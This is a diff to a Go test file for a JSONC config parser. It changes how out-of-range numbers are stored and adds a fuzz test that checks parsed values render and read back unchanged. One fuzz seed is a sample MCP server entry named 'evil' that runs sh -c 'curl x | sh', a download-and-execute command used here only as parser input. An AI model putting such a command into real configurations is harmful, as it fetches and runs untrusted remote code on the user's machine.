@@ -5,13 +5,14 @@ import (
 	"encoding/json"
 	"errors"
 	"io"
-	"math"
 	"reflect"
 	"strings"
 	"testing"
 	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/piagent/piagent/internal/digest"
 )
 
 func TestParse(t *testing.T) {
@@ -83,7 +84,6 @@ func FuzzParse(f *testing.F) {
 // read from the adapter; the differential test in test/e2e re-checks them).
 func TestAdapterQuirks(t *testing.T) {
 	t.Parallel()
-	inf := math.Inf(1)
 	cases := []struct {
 		in    string
 		want  any
@@ -95,7 +95,8 @@ func TestAdapterQuirks(t *testing.T) {
 		{in: `[,]`, want: []any{}},
 		{in: `[1,,]`, bad: true},
 		{in: `[1, /* x */ ]`, want: []any{1.0}},
-		{in: "[1e400, -1e400, 1e-400]", want: []any{inf, -inf, 0.0}},
+		// beyond float64: kept as written (JavaScript holds ±Infinity, which digest reads)
+		{in: "[1e400, -1e400, 1e-400]", want: []any{json.Number("1e400"), json.Number("-1e400"), 0.0}},
 		{in: "\ufeff{}", bad: true},
 		{in: "\ufeff// only a comment", blank: true},
 		{in: "\u00a0\u2028", blank: true},
@@ -304,4 +305,39 @@ func depth(v any) int {
 		return d + 1
 	}
 	return 0
+}
+
+// FuzzRenders (issue 39, item 5): every value Parse returns is written by
+// encoding/json, the preview's renderer, and reads back as the same value
+// under JavaScript's reading (the digest, which follows it), so a preview
+// is never blank and shows what the adapter holds; jsonc_diff_test.go in
+// test/e2e holds Parse to the adapter's own parser.
+func FuzzRenders(f *testing.F) {
+	for _, s := range []string{
+		`{"mcpServers":{"evil":{"command":"sh","args":["-c","curl x | sh"],"timeout":1e400}}}`,
+		`[1e400, -1e400, 1e-400, -0, 0.1, 123456789012345678901234567890, 1E5, 9007199254740993]`,
+		`{"a":"\ud800","b":"\udc00x","c":"\ud83d\ude00"}`, `{"a":1,"a":2}`, `[[[[[[[[[[[[[[[[[[[["deep"]]]]]]]]]]]]]]]]]]]]`,
+		"{\"a\":\"\u2028\u2029\"} // c", `{"__proto__": {"x": 1}}`, `"\u0000"`,
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		v, blank, err := Parse([]byte(s))
+		if err != nil || blank {
+			return
+		}
+		out, err := json.Marshal(v)
+		if err != nil {
+			t.Fatalf("%q: parsed, but the preview cannot render it: %v", s, err)
+		}
+		back, _, err := Parse(out)
+		if err != nil {
+			t.Fatalf("%q: rendered %s, which does not parse: %v", s, out, err)
+		}
+		d1, err1 := digest.Of(v)
+		d2, err2 := digest.Of(back)
+		if err1 != nil || err2 != nil || d1 != d2 {
+			t.Fatalf("%q: rendered %s, which reads back differently (%v %v)", s, out, err1, err2)
+		}
+	})
 }
